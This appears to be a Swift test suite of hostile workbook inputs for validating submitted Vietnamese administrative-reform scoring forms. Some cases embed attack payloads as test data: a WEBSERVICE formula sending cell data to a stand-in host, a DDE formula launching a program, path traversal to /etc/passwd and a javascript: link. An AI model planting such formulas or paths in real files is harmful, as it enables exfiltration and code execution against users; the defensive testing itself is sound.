import Foundation
import TestSupport
import Testing

extension HostileForm {
  static var layouts: [HostileForm] {
    func identity(_ name: String, _ change: @escaping (inout SentForm) throws -> Void)
      -> HostileForm
    {
      HostileForm(name, change)
    }
    return [
      HostileForm(
        "a workbook that is no form",
        bytes: {
          try XMLBook(sheet: "<row><c><v>1</v></c></row>").bytes()
        }),
      identity("another version") { try $0.type("parindex/workbook@9", at: "B2", sheet: 5) },
      identity("another year's form") { try $0.type("khanh-hoa-2016", at: "B3", sheet: 5) },
      identity("a unit that is not in the round") {
        try $0.type("so-vu-tru", at: "B4", sheet: 5)
      },
      identity("another unit's form") { try $0.type("cam-lam-xa-cam-tan", at: "B4", sheet: 5) },
      identity("another edition of the criteria") {
        try $0.type(String(repeating: "0", count: 64), at: "B6", sheet: 5)
      },
      identity("no longer says whose it is") { try $0.type("", at: "A4", sheet: 5) },
      HostileForm("the hidden sheet is gone") { try $0.type("", at: "A1", sheet: 5) },
      HostileForm("the first sheet is gone") { try $0.type("", at: "A4") },
      HostileForm("a sheet is there twice") { form in
        form.book["xl/worksheets/sheet3.xml"] = form.book["xl/worksheets/sheet2.xml"]
      },
      HostileForm("a column is gone") { try $0.type("", at: "G4") },
      HostileForm("a column of the shelf is gone") { try $0.type("", at: "D3", sheet: 2) },
      HostileForm("a column is there twice") { try $0.type("points", at: "L4") },
      HostileForm("an item twice") { form in
        try form.type("~1.1.1", at: "A\(form.row("~1.1.2"))")
      },
      HostileForm("an item that is not in the set") { form in
        try form.type("~9.9.9", at: "A\(form.row("~1.1.2"))")
      },
      HostileForm("an input that is not in the set") { form in
        try form.type("~1.1.3/made_up", at: "A\(form.row("~1.1.3/planned"))")
      },
      HostileForm("a key that is none") { form in
        try form.type("tổng cộng", at: "A\(form.row("~1.1.2"))")
      },
      HostileForm("a row of nothing with something in it") { form in
        form.addRow(
          "<row r=\"900\"><c r=\"F900\"><v>12</v></c></row>")
      },
      HostileForm("rows were deleted") { form in
        _ = try form.takeRow(form.row("~1.1.3"))
        _ = try form.takeRow(form.row("~1.1.2/funded"))
        _ = try form.takeRow(form.row("~1.1.1/issued_on"))
        _ = try form.takeRow(form.row("@submitted_at"))
      },
      HostileForm("what people see was moved to another item's row") { form in
        try form.type("1.1.2", at: "B\(form.row("~1.1.1"))")
      },
      HostileForm("the title of another input") { form in
        try form.type("Số nhiệm vụ đã hoàn thành", at: "C\(form.row("~1.1.3/planned"))")
      },
      HostileForm("the first sheet is another unit's") { form in
        try form.type("parindex-for:khanh-hoa-2017/so-xay-dung/0", at: "O4")
      },
      HostileForm("the shelf no longer says whose it is") { form in
        try form.type("", at: "L3", sheet: 2)
      },
      HostileForm("a sheet of somebody's own and comments") { form in
        form.book["xl/workbook.xml"] = form.book["xl/workbook.xml"]
          .replacingOccurrences(of: "Hướng dẫn", with: "Tính nháp")
        form.book["xl/comments1.xml"] = "<comments/>"
      },
    ]
  }

  static var cells: [HostileForm] {
    func text(_ name: String, _ text: String, _ key: String, _ column: SentForm.Column)
      -> HostileForm
    {
      HostileForm(name) { try $0.type(text, key, column) }
    }
    func number(_ name: String, _ text: String, _ key: String, _ column: SentForm.Column)
      -> HostileForm
    {
      HostileForm(name) { try $0.number(text, key, column) }
    }
    func formula(_ name: String, _ formula: String, _ result: String?) -> HostileForm {
      HostileForm(name) { try $0.formula(formula, result, "~1.1.3/planned", .value) }
    }
    return [
      text("letters for a count", "mười chín", "~1.1.3/planned", .value),
      number("a count below zero", "-1", "~1.1.3/planned", .value),
      number("half a thing", "1.5", "~1.1.3/planned", .value),
      number("a number beyond all figures", "1E+308", "~1.1.3/planned", .value),
      number("a number that is none", "NaN", "~1.1.3/planned", .value),
      number("a number beyond numbers", "1E+999", "~1.1.3/planned", .value),
      text("a number to be read in two ways", "1.234", "~1.1.3/planned", .value),
      number("more done than planned", "20", "~1.1.3/completed", .value),
      HostileForm("a cell that is an error") { form in
        try form.set(
          "F\(form.row("~1.1.3/planned"))", "<v>#REF!</v>", type: "e")
      },
      HostileForm("a text that is not among the texts") { form in
        try form.set("F\(form.row("~1.1.3/planned"))", "<v>999999</v>", type: "s")
      },
      number("a day out of range", "2", "~1.1.1/issued_on", .value),
      text("a day outside the input's range", "01/01/1999", "~1.1.1/issued_on", .value),
      text("a day that there is not", "31/02/2017", "~1.1.1/issued_on", .value),
      text("a year of two digits", "15/12/16", "~1.1.1/issued_on", .value),
      text("months before days", "12/15/2016", "~1.1.1/issued_on", .value),
      text("neither yes nor no", "có lẽ", "~1.1.2/funded", .value),
      text("a level that there is not", "Xuất sắc", "~1.5.3/level", .value),
      number("points above the maximum", "99", "~1.1.1", .points),
      text("points in letters", "một điểm", "~1.1.1", .points),
      number("more digits than a cell holds", "1234567890123456", "~1.1.3/planned", .value),
      text("a figure beside its cell", "19", "~1.1.3", .value),
      text("points in the row of an input", "1", "~1.1.3/planned", .points),
      text("a note in the row of an input", "xem thêm", "~1.1.3/planned", .note),
      HostileForm("pages for more documents than there are") { form in
        try form.type("ke-hoach-cchc; bang-so-lieu-1-1-3", "~1.1.1", .document)
        try form.type("1; 2; 3", "~1.1.1", .pages)
      },
      text("a document that is not on the shelf", "quyet-dinh-ma", "~1.1.1", .document),
      HostileForm("a page of no document") { form in
        try form.type("", "~1.1.1", .document)
      },
      HostileForm("a page that became a day") { form in
        let day = try #require(
          form.book["xl/worksheets/sheet1.xml"].firstMatch(
            of: try Regex("<c r=\"F\(form.row("~1.1.1/issued_on"))\" s=\"([0-9]+)\""))?
            .output[1].substring.map(String.init))
        try form.set("J\(form.row("~1.1.1"))", "<v>42739</v>", style: day)
      },
      text("not applicable where it always applies", "không phát sinh", "~1.1.1", .notApplicable),
      formula("a formula with a result", "10+9", "19"),
      formula("a formula without a result", "SUM(A1:A9)", nil),
      formula("a formula that asks the web", "WEBSERVICE(\"http://x.test/?q=\"&F20)", "1"),
      formula("a link", "HYPERLINK(\"http://x.test\",\"xem\")", "1"),
      formula("a formula that starts a program", "cmd|'/c calc'!A0", "1"),
      formula("a formula on another file", "[1]Sheet1!$A$1", "1"),
      formula("a formula on a file by name", "'C:\\tmp\\[b.xlsx]S'!A1", "1"),
      HostileForm("a formula that asks the web in a locked cell") { form in
        try form.set("D\(form.row("~1.1.1"))", "<f>IMPORTXML(\"http://x.test\",\"/\")</f><v>0</v>")
      },
      HostileForm("two documents of one id") { try $0.type("ke-hoach-cchc", at: "A6", sheet: 2) },
      HostileForm("a document that leads out") {
        try $0.type("../../../etc/passwd", at: "G5", sheet: 2)
      },
      HostileForm("a link that is none") { try $0.type("javascript:alert(1)", at: "H5", sheet: 2) },
      HostileForm("a day of the shelf in letters") { try $0.type("hôm qua", at: "D5", sheet: 2) },
      HostileForm("a document without an id") { try $0.type("", at: "A5", sheet: 2) },
      HostileForm("a position without a name") { form in
        try form.type("", "@signed_by.name", .value)
      },
      HostileForm("handed in at no time") { form in
        try form.type("sáng thứ hai", "@submitted_at", .value)
      },
      HostileForm("a disputed figure that there is not") { form in
        try form.type("so-lieu.la", at: "A5", sheet: 4)
        try form.type("3", at: "B5", sheet: 4)
        try form.type("đếm nhầm", at: "C5", sheet: 4)
      },
      HostileForm("a dispute without a ground") { form in
        try form.type("reports.late", at: "A5", sheet: 4)
        try form.type("0", at: "B5", sheet: 4)
      },
      HostileForm("a dispute of nothing") { try $0.type("đếm nhầm", at: "C5", sheet: 4) },
    ]
  }
}
